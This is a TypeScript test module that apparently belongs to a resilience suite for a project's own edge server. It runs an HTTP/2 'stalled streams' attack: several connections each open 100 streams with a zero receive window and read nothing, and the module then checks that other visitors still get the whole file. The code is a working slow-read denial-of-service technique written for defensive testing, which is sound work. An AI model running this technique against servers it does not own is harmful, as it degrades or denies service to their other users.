import { once } from 'node:events'
import { type ClientHttp2Session, connect } from 'node:http2'
import { connectSecurely, fetchSecure } from '../../edge/src/testing/visitor/fetch-secure.ts'
import type { Attack } from '../attack.ts'
import { openPlace } from '../place.ts'
import { addressOf, portOf } from '../request.ts'

const size = 1_000_000

export const stalledStreams: Attack = {
  name: 'stalled-streams',
  tries:
    'Eight connections of HTTP/2 ask the edge for a large file in 100 streams each, and take not one byte of it.',
  holds:
    'Other visitors are served the whole file meanwhile, from their own address and from that of the attacker once it has left.',
  run: async (target, notes) => {
    const { edgeTlsUrl } = target.settings
    const place = await openPlace(target)
    place.origin.give('/large', 'x'.repeat(size), { 'cache-control': 'max-age=600' })
    await place.get('/large')
    const tls = { host: addressOf(edgeTlsUrl) }
    const from = target.nextSource()
    const wanted = { host: place.domain, path: '/large', protocols: ['h2' as const] }
    const isServed = async (what: string, more: object) => {
      const answer = await fetchSecure(portOf(edgeTlsUrl), { ...wanted, tls: { ...tls, ...more } }).catch(
        String,
      )
      notes.tried('visits of others')
      if (typeof answer === 'string' || answer.bytes.length !== size)
        notes.breach(
          `${what}: ${typeof answer === 'string' ? answer : `${answer.status}, ${answer.bytes.length} bytes`}`,
        )
    }
    const sessions: ClientHttp2Session[] = []
    try {
      for (let i = 0; i < (target.settings.quick ? 2 : 8); i += 1) {
        const socket = await connectSecurely(portOf(edgeTlsUrl), {
          ...wanted,
          tls: { ...tls, ...(from !== undefined && { localAddress: from }) },
        })
        const session = connect(`https://${place.domain}`, {
          createConnection: () => socket,
          settings: { initialWindowSize: 0 },
        })
        session.on('error', () => {})
        sessions.push(session)
        const streams = Array.from({ length: 100 }, () => session.request({ ':path': '/large' }))
        for (const stream of streams) stream.on('error', () => {})
        await Promise.all(
          streams.map((stream) => Promise.race([once(stream, 'response'), once(stream, 'close')])),
        )
        notes.tried('stalled streams', streams.length)
        const other = target.nextSource()
        await isServed('a visitor from elsewhere', other === undefined ? {} : { localAddress: other })
      }
    } finally {
      for (const session of sessions) session.destroy()
    }
    await isServed(
      'a visitor from the same address, afterwards',
      from === undefined ? {} : { localAddress: from },
    )
    await place.close()
  },
}
